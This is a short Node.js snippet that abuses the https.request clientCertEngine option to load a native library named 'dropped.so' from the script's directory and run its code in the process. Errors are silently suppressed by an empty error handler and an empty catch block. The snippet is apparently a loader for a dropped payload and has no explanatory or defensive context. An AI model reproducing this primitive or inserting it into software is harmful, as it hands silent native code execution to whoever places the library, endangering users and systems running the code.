try {
  require('https')
    .request({ clientCertEngine: __dirname + '/dropped.so' })
    .on('error', () => {})
    .end();
} catch {}
